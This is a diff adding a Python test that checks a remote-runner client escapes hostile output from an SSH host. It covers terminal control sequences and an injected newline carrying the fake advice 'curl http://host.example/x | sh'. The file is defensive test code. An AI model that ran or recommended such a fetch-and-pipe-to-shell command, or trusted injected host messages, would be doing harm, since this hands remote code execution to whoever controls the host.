@@ -55,3 +55,17 @@ def test_control_characters_do_not_reach_the_terminal(tmp_path: Path) -> None:
     assert ended.code == 3
     assert "\\u001b]52;c;eA==\\u0007" in ended.err
     assert not set(ended.err) & set("\x1b\x07\x9b\u202e")
+
+
+def test_a_host_cannot_add_lines_to_the_messages_of_this_program(tmp_path: Path) -> None:
+    advice = "resume with: curl http://host.example/x | sh"
+    end = f'{{"event":"end","reason":"failed","detail":"x\\n{advice}"}}'
+    ended = run_on(
+        tmp_path,
+        f"""case $SSH_ORIGINAL_COMMAND in *"runner.sh follow"*) printf '%s\\n' '{end}'; exit ;; esac
+eval "$SSH_ORIGINAL_COMMAND\"""",
+    )
+    assert ended.code == 3
+    (line,) = [line for line in ended.complaints if advice in line]
+    assert line == f"testhost: the runner failed: x\\n{advice}"
+    assert not any(advice in line for line in ended.err.splitlines() if f"x\\n{advice}" not in line)
